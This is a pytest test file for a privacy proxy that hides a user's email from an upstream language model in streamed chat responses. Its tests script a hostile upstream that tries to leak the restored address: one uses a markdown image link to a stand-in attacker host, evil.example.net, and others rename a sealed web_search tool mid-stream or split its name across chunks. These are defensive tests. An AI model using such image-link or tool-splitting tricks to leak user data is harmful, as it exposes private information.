"""What a hostile or careless upstream does with the shape of its answer; each must not help it."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from support.houses import running
from support.http import Got, chat, post
from support.models import Body, Scripted, chunk

from louver.core.errors import UpstreamFailed

VALUE = "alice.martin@example.com"
TOOLS = [
    {"type": "function", "function": {"name": name, "parameters": {}}}
    for name in ("book", "web", "web_search")  # The last one is sealed in the tests' settings.
]
END = chunk({}, finish="stop")
Events = Callable[[str], list[Body | BaseException]]


def answer(folder: Path, events: Events, **more: Any) -> Got:
    def script(body: Body) -> list[Body | BaseException]:
        return events(body["messages"][-1]["content"].split()[-1])

    with running(folder, providers={"home": Scripted(script)}) as watched:
        return post(watched, chat(f"Mail {VALUE}", stream=True, tools=TOOLS, **more))


def deltas(got: Got) -> list[dict[str, Any]]:
    lines = [line[6:] for line in got.body.split(b"\n\n") if line.startswith(b"data: {")]
    parsed = [orjson.loads(line) for line in lines]
    return [choice["delta"] for event in parsed for choice in event.get("choices", [])]


def call(name: str | None, arguments: str, **more: Any) -> Body:
    function = {"arguments": arguments, **({"name": name} if name else {})}
    return chunk({"tool_calls": [{"index": 0, "function": function, **more}]})


def told(got: Got) -> str:
    calls = [c for delta in deltas(got) for c in delta.get("tool_calls", [])]
    return "".join(c["function"].get("arguments", "") for c in calls)


@pytest.mark.parametrize("reason", ["length", "stop", "tool_calls"])
def test_an_early_finish_does_not_forget_the_link(tmp_path: Path, reason: str) -> None:
    got = answer(
        tmp_path,
        lambda p: [
            chunk({"content": "![x](https://evil.example.net/?q="}, finish=reason),
            chunk({"content": p + ")"}),
            chunk({}, finish="stop"),
        ],
    )
    assert VALUE.encode() not in got.body
    assert b"upstream_invalid" in got.body


def test_an_empty_finish_reason_is_none(tmp_path: Path) -> None:
    got = answer(
        tmp_path,
        lambda p: [*(chunk({"content": c}, finish="") for c in p), chunk({}, finish="stop")],
    )
    assert "".join(d.get("content") or "" for d in deltas(got)) == VALUE


def test_a_sealed_tool_is_not_renamed_on_the_way(tmp_path: Path) -> None:
    got = answer(
        tmp_path,
        lambda p: [call("web_search", '{"q":"'), call("book", p + '"}'), chunk({}, finish="stop")],
    )
    assert VALUE.encode() not in got.body


def test_a_sealed_tool_is_not_named_in_parts(tmp_path: Path) -> None:
    before = answer(
        tmp_path,
        lambda p: [
            call("web", ""),
            call("_search", json.dumps({"q": p})),
            chunk({}, finish="tool_calls"),
        ],
    )
    assert VALUE.encode() not in before.body
    after = answer(
        tmp_path,
        lambda p: [
            call("web", json.dumps({"q": p})),
            call("_search", ""),
            chunk({}, finish="stop"),
        ],
    )
    assert b"upstream_invalid" in after.body


def test_a_name_that_is_repeated_loses_nothing(tmp_path: Path) -> None:
    got = answer(
        tmp_path,
        lambda p: [
            call("book", '{"q":"' + p[:5]),
            call("book", p[5:] + '"}'),
            chunk({}, finish="tool_calls"),
        ],
    )
    assert json.loads(told(got)) == {"q": VALUE}


def test_calls_without_an_index_get_one(tmp_path: Path) -> None:
    def events(p: str) -> list[Body | BaseException]:
        function = {"name": "book", "arguments": json.dumps({"q": p})}
        return [
            chunk({"tool_calls": [{"id": "c", "function": function}]}),
            chunk({}, finish="stop"),
        ]

    got = answer(tmp_path, events)
    calls = [c for delta in deltas(got) for c in delta.get("tool_calls", [])]
    assert {c["index"] for c in calls} == {0}
    assert json.loads(told(got)) == {"q": VALUE}


def test_a_tool_whose_name_holds_a_value_gets_its_arguments(tmp_path: Path) -> None:
    tools = [{"type": "function", "function": {"name": "mail-bob@example.com", "parameters": {}}}]

    def script(body: Body) -> list[Body]:
        name = body["tools"][0]["function"]["name"]
        placeholder = body["messages"][-1]["content"].split()[-1]
        return [call(name, json.dumps({"q": placeholder})), chunk({}, finish="tool_calls")]

    with running(tmp_path, providers={"home": Scripted(script)}) as watched:
        got = post(watched, chat(f"Mail {VALUE}", stream=True, tools=tools))
        assert b"bob@" not in watched.bytes_that_left
    calls = [c for delta in deltas(got) for c in delta.get("tool_calls", [])]
    assert calls[0]["function"]["name"] == "mail-bob@example.com"
    assert json.loads(told(got)) == {"q": VALUE}


def test_what_had_arrived_before_a_failure_is_told(tmp_path: Path) -> None:
    reset = UpstreamFailed("reset", code="upstream_reset")
    got = answer(tmp_path, lambda p: [chunk({"content": "Dear " + p}), reset])
    assert "".join(d.get("content") or "" for d in deltas(got)) == "Dear " + VALUE
    assert b"upstream_reset" in got.body
    assert b"[DONE]" not in got.body


def test_every_event_of_the_model_is_an_event_of_the_answer(tmp_path: Path) -> None:
    text = "Peter Emma Ian a\\b&c https://example.com/x "
    got = answer(
        tmp_path,
        lambda p: [*(chunk({"content": c}) for c in text + p), chunk({}, finish="stop")],
    )
    assert len(deltas(got)) >= len(text) + len("EMAIL_") + 12 + 1
    assert "".join(d.get("content") or "" for d in deltas(got)) == text + VALUE


def test_an_answer_without_choices_is_none(tmp_path: Path) -> None:
    got = answer(tmp_path, lambda p: [{**chunk({}), "choices": []}])
    assert b"upstream_invalid" in got.body
